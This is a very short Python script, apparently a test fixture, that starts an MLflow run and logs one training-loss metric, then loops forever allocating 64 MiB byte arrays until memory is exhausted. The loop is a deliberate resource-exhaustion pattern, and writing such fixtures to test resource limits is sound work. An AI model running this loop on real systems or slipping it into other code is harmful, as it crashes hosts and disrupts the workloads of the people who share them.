import mlflow

mlflow.start_run()
mlflow.log_metric("train/loss", 1.0, step=1)
hoard = []
while True:
    hoard.append(bytearray(b"x" * 2**26))
